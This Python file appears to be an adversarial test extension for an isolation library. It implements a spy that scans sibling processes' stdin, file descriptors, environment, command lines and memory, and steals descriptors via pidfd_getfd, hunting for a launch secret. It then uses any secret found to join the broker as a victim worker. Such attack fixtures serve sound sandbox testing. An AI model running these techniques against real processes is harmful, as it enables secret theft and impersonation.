"""An extension that spies on its siblings' start-up to steal a launch secret (and a harmless victim).

``start_watching(host_pid, victim)`` starts a thread that, for every child of the host, over
and over: reads its stdin through ``/proc/<pid>/fd/0``, every ``/proc/<pid>/fd/*``, its
``environ``, ``cmdline`` and memory (``/proc/<pid>/mem``, region by region), takes its
descriptors with ``pidfd_getfd``, and reads the pipes the host holds (``/proc/<host>/fd/*``).
Whatever looks like a launch secret (64 hex digits) it tries at once to join the broker with,
under the victim's name, before the victim does.
"""

import collections
import ctypes
import glob
import os
import re
import tempfile
import threading

from pyisolate import ExtensionBase

_SECRET = re.compile(rb"[0-9a-f]{64}")
_PIDFD_GETFD = 438
_libc = ctypes.CDLL(None, use_errno=True)


class Snoop(ExtensionBase):
    def __init__(self):
        self._stop = threading.Event()
        self._round = threading.Condition()
        self._rounds = 0
        self._thread = None
        self.outcomes = collections.defaultdict(collections.Counter)  # what -> outcome -> count
        self.bytes_read = collections.Counter()  # what -> bytes
        self.loot = bytearray()  # everything read, except memory (too big): searched as it comes
        self.candidates = set()
        self.joins = []
        self.pids = set()

    def dumpable(self):
        return _libc.prctl(3, 0, 0, 0, 0)  # PR_GET_DUMPABLE

    def pid(self):
        return os.getpid()

    def start_watching(self, host_pid, victim):
        self._thread = threading.Thread(target=self._watch, args=(host_pid, victim), daemon=True)
        self._thread.start()

    async def rounds(self, count):
        """Return once ``count`` more rounds of the attack have run."""
        import asyncio

        def wait():
            with self._round:
                target = self._rounds + count
                self._round.wait_for(lambda: self._rounds >= target, timeout=60)

        await asyncio.to_thread(wait)

    def stop_watching(self):
        self._stop.set()
        self._thread.join(timeout=60)
        return {
            "pids": sorted(self.pids),
            "outcomes": {what: dict(counts) for what, counts in self.outcomes.items()},
            "bytes_read": dict(self.bytes_read),
            "candidates": len(self.candidates),
            "joins": self.joins,
        }

    def learned(self, secret_hex):
        """Whether anything read holds the secret (as hex, or as the 32 raw bytes)."""
        raw = bytes.fromhex(secret_hex)
        return secret_hex.encode() in self.candidates or secret_hex.encode() in self.loot or raw in self.loot

    # -- the attack --------------------------------------------------------------------------

    def _watch(self, host_pid, victim):
        me = os.getpid()
        while not self._stop.is_set():
            for pid in self._children(host_pid) - {me}:
                self.pids.add(pid)
                self._read_fds(pid)
                self._read(f"/proc/{pid}/environ", "environ")
                self._read(f"/proc/{pid}/cmdline", "cmdline")
                self._read_memory(pid)
                self._take_fds(pid)
            self._read_host_pipes(host_pid)
            for candidate in list(self.candidates):
                if candidate not in {j[0] for j in self.joins}:
                    self._join(candidate.decode(), victim, host_pid)
            with self._round:
                self._rounds += 1
                self._round.notify_all()

    def _children(self, host_pid):
        pids = set()
        for path in glob.glob(f"/proc/{host_pid}/task/*/children"):
            try:
                with open(path) as f:
                    pids.update(int(p) for p in f.read().split())
            except OSError:
                pass
        return pids

    def _note(self, what, outcome, data=b""):
        self.outcomes[what][outcome] += 1
        if data:
            self.bytes_read[what] += len(data)
            if len(self.loot) < 64 << 20:
                self.loot += data
            self.candidates.update(_SECRET.findall(data))

    def _read(self, path, what):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError as exc:
            return self._note(what, f"open: {exc.strerror}")
        try:
            data = os.read(fd, 1 << 20)
            self._note(what, "read", data)
        except OSError as exc:
            self._note(what, f"read: {exc.strerror}")
        finally:
            os.close(fd)

    def _read_fds(self, pid):
        self._read(f"/proc/{pid}/fd/0", "fd/0")  # the stdin pipe
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            return self._note("fd/*", f"list: {exc.strerror}")
        for name in names:
            if name != "0":
                self._read(f"/proc/{pid}/fd/{name}", "fd/*")

    def _read_memory(self, pid):
        try:
            with open(f"/proc/{pid}/maps") as f:
                regions = [line.split() for line in f]
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError as exc:
            return self._note("mem", f"open: {exc.strerror}")
        try:
            for region in regions:
                if len(region) < 2 or not region[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in region[0].split("-"))
                for offset in range(start, min(end, start + (256 << 20)), 1 << 20):
                    try:
                        data = os.pread(fd, min(1 << 20, end - offset), offset)
                    except OSError:
                        break
                    self.bytes_read["mem"] += len(data)
                    self.candidates.update(_SECRET.findall(data))
            self._note("mem", "read")
        finally:
            os.close(fd)

    def _take_fds(self, pid):
        try:
            pidfd = os.pidfd_open(pid)
        except OSError as exc:
            return self._note("pidfd_getfd", f"pidfd_open: {exc.strerror}")
        try:
            for target in range(3, 16):
                fd = _libc.syscall(_PIDFD_GETFD, pidfd, target, 0)
                if fd < 0:
                    self._note("pidfd_getfd", f"getfd: {os.strerror(ctypes.get_errno())}")
                    continue
                try:
                    os.set_blocking(fd, False)
                    data = os.read(fd, 1 << 20)
                    self._note("pidfd_getfd", "read", data)
                except OSError as exc:
                    self._note("pidfd_getfd", f"read: {exc.strerror}")
                finally:
                    os.close(fd)
        finally:
            os.close(pidfd)

    def _read_host_pipes(self, host_pid):
        """Pipes the host holds open (the write end of each worker's stdin among them)."""
        try:
            names = os.listdir(f"/proc/{host_pid}/fd")
        except OSError as exc:
            return self._note("host fd", f"list: {exc.strerror}")
        for name in names:
            path = f"/proc/{host_pid}/fd/{name}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                with open(f"/proc/{host_pid}/fdinfo/{name}") as f:
                    flags = int(re.search(r"flags:\s*(\d+)", f.read())[1], 8)
            except OSError as exc:  # a sandboxed spy: the links themselves are closed to it
                self._note("host fd", f"readlink: {exc.strerror}")
                continue
            except TypeError:
                continue
            if flags & os.O_ACCMODE == os.O_WRONLY:  # a worker's stdin: read what waits in it
                self._read(path, "host fd")

    def _join(self, candidate, victim, host_pid):
        from pyisolate.workers.connection import Connection, HandshakeError

        for endpoint in glob.glob(os.path.join(tempfile.gettempdir(), f"pyisolate-{host_pid}-*", "broker")):
            conn = Connection(f"ipc://{endpoint}")
            try:
                conn.handshake(victim, bytes.fromhex(candidate), timeout=2)
                self.joins.append((candidate.encode(), "joined"))
            except HandshakeError as exc:
                self.joins.append((candidate.encode(), str(exc)))
            finally:
                conn.close()
